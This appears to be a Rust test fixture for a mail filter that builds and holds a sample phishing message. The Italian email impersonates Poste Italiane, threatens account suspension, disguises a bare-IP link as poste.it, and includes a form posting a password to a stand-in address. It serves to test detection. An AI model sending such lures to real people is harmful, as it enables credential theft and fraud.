//! Mail that is held, as the milter holds it.

use crate::house::TestHouse;
use baluardo_mail::{Language, judge};
use baluardo_model::TenantId;
use baluardo_service::mail::{self, Arriving, Held};

/// A message that asks for a password in the name of a brand; `word` stands in its subject, sender and text.
#[must_use]
pub fn phish(word: &str) -> Vec<u8> {
    let text = [
        "From: \"Poste Italiane\" <avvisi@consegne-rapide-48213.top>".to_owned(),
        "To: ufficio@comune.siena.it".to_owned(),
        format!("Subject: {word}: il suo conto e' sospeso, verifichi entro 24 ore"),
        format!("Message-ID: <{word}@consegne-rapide-48213.top>"),
        "Date: Mon, 02 Nov 2026 08:00:00 +0000".to_owned(),
        "MIME-Version: 1.0".to_owned(),
        "Content-Type: text/html; charset=utf-8".to_owned(),
        String::new(),
        format!("<p>Gentile cliente {word}, il suo conto BancoPosta e' stato sospeso.</p>"),
        "<p>Inserisca subito la password e il codice PIN, o il conto sara' chiuso: \
         <a href=\"http://192.0.2.77/poste/login.php\">https://www.poste.it/accesso</a></p>"
            .to_owned(),
        "<form action=\"http://192.0.2.77/p\"><input type=\"password\" name=\"p\"></form>".to_owned(),
        String::new(),
    ];
    text.join("\r\n").into_bytes()
}

/// Holds such a message for a comune, and gives what the milter would learn.
pub async fn hold(test: &TestHouse, tenant: TenantId, word: &str) -> Held {
    let bytes = phish(word);
    let sender = format!("{word}@consegne-rapide-48213.top");
    let recipients = ["ufficio@comune.siena.it".to_owned()];
    let (verdict, english) = (judge(&bytes, Language::Italian), judge(&bytes, Language::English));
    let mail =
        Arriving { sender: &sender, recipients: &recipients, bytes: &bytes, verdict: &verdict, english: &english };
    mail::hold_message(&test.house, tenant, &mail).await.expect("the store takes mail")
}
